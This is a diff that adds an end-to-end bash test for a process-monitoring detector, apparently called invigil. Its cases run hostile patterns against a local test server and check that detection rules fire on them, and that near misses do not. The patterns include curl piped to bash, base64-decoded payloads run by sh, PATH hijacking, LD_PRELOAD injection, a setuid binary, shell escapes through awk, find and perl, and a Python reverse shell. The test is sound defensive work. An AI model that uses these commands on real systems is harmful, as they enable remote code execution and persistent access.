@@ -1,0 +1,100 @@
+#!/bin/bash
+# flow.sh: where programs come from and what feeds them: downloads, decoders, PATH, start-up files, sockets (R2-R4).
+# shellcheck source=tests/e2e/lib.sh
+. "$(dirname "$0")/lib.sh"
+
+python3 tests/lib/sink.py >"$work/port" 2>/dev/null &
+sink_pid=$!
+trap 'kill $sink_pid 2>/dev/null; cleanup' EXIT
+until_true 20 test -s "$work/port"
+url=http://127.0.0.1:$(cat "$work/port")/script.sh
+tree=$work/tree
+mkdir -p "$tree"
+cd "$tree" || exit 1
+
+bash_run() { run -- bash -c "$1" </dev/null >"$work/out" 2>&1; }
+hit() { # RULE NAME COMMAND
+	bash_run "$3"
+	see "$1: $2" 'len({get(e, "invigil.fingerprint") for e in alerts("'"$1"'")}) == 1'
+}
+miss() { # RULE NAME COMMAND
+	bash_run "$3"
+	see "$1, near miss: $2" 'ended() and len(execs()) > 0 and not alerts("'"$1"'")'
+}
+
+hit R4.4 "a download piped to a shell is one finding" "curl -s $url | bash"
+see "and it shows the whole line" "'curl -s $url | bash' in json.dumps(alerts('R4.4'))"
+hit R4.4 "through another program, to a shell with operands" "curl -s $url | cat | sh -s operand"
+miss R4.4 "a download piped to a shell that has its program" "curl -s $url | sh -c 'cat >/dev/null'"
+miss R4.4 "a file piped to a shell" "echo 'echo x' >f; cat f | sh"
+hit R3.6 "a downloaded program is executed" "curl -so dl $url; chmod +x dl; ./dl"
+hit R3.6 "a download by redirection is run as a script" "curl -s $url >dl; sh dl"
+hit R3.6 "a download through a filter" "curl -s $url | sed s/served/x/ >dl; sh dl"
+hit R3.6 "a download by a program of the run's own" \
+	"python3 -c 'import urllib.request as u; u.urlretrieve(\"$url\", \"dl\")'; sh dl"
+miss R3.6 "the same file, written without the network" "cat dl >copy; sh copy"
+
+script=$(printf '#!/bin/sh\necho decoded\n' | base64 -w 0)
+hit R2.3 "a decoder's output reaches a shell" "echo $script | base64 -d | sh"
+hit R2.3 "hex" "printf 'echo x' | xxd -p | xxd -r -p | sh"
+miss R2.3 "an encoder's output reaches a shell" "echo true | base64 >/dev/null; echo true | cat | sh"
+echo "$script" >encoded
+printf '#!/bin/sh\nbase64 -d <encoded >art.sh\nchmod 755 art.sh\n./art.sh\n' >decode.sh
+printf '#!/bin/sh\ncat encoded >art.sh\nbase64 -d <encoded >/dev/null\nsh art.sh 2>/dev/null\n' >copy.sh
+hit R2.4 "what was decoded in a script is executed" "sh decode.sh"
+miss R2.4 "what was only copied is executed" "sh copy.sh"
+
+mkdir -p w
+cp /bin/true w/mytool
+hit R3.3 "a program found by a relative entry of PATH" 'PATH=$PATH:w; mytool'
+miss R3.3 "the same entry, absolute" "PATH=\$PATH:$tree/w; mytool"
+chmod 777 w
+hit R3.3 "by an entry that others can write" "PATH=\$PATH:$tree/w; mytool"
+miss R3.3 "called by its path" "PATH=\$PATH:$tree/w; $tree/w/mytool"
+chmod 755 w
+printf 'echo x\n' >loose.sh
+chmod 666 loose.sh
+hit R3.2 "a script that others can change, given to a shell" "sh loose.sh"
+printf 'print(1)\n' >loose.py
+chmod 666 loose.py
+hit R3.2 "given to python" "python3 -B loose.py"
+chmod 644 loose.sh
+miss R3.2 "the same script, 0644" "sh loose.sh"
+
+cp /usr/bin/id suid
+chown 1:1 suid
+chmod 4755 suid
+hit R3.5 "a set-id program" "./suid"
+chmod 755 suid
+miss R3.5 "the same without the bit" "./suid"
+hit R3.5 "unshare" "unshare -n true"
+
+printf 'printf x >%s\nLD_PRELOAD=%s /bin/true\n' "$work/x.so" "$work/x.so" >preload.sh
+hit R3.8 "LD_PRELOAD of what the run wrote elsewhere" "sh preload.sh"
+miss R3.8 "of what it wrote in its working tree" "printf x >$tree/x.so; LD_PRELOAD=$tree/x.so /bin/true"
+miss R3.8 "of what it did not write" "LD_PRELOAD=$work/x.so /bin/true"
+
+hit R4.6 "awk starts a shell" "awk 'BEGIN { system(\"id\") }'"
+hit R4.6 "find starts a shell" "find . -maxdepth 0 -exec sh -c 'echo x' \\;"
+hit R4.6 "perl becomes a shell" "perl -e 'exec \"/bin/sh\", \"-c\", \"true\"'"
+miss R4.6 "find starts another program" "find . -maxdepth 0 -exec /bin/true \\;"
+port=$(cat "$work/port")
+cat >reverse.py <<PY
+import os, socket, subprocess, sys
+if sys.argv[1] == "inet":
+    s = socket.create_connection(("127.0.0.1", $port))
+    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
+else:
+    s = socket.socketpair()[0]
+subprocess.call(["/bin/sh", "-c", "exit 0"], stdin=s, stdout=s, stderr=s)
+PY
+hit R4.5 "a shell on a network socket" "python3 reverse.py inet"
+miss R4.5 "a shell on a pair of sockets" "python3 reverse.py unix"
+bash_run "exec 3<>/dev/tcp/127.0.0.1/$port; printf 'GET / HTTP/1.0\r\n\r\n' >&3; cat <&3"
+see "R4.5: a shell opens a connection and feeds on it" 'len(alerts("R4.5")) > 0'
+miss R4.5 "a shell that only looks whether a port is open" "(echo >/dev/tcp/127.0.0.1/$port); /bin/true"
+
+run --record "$work/rec" -- bash -c "curl -s $url | bash; curl -so dl $url; sh dl" >/dev/null 2>&1
+check "replay gives the same stream" sh -c \
+	"'$invigil' replay -o '$work/again' '$work/rec' 2>/dev/null; cmp '$ev' '$work/again'"
+finish
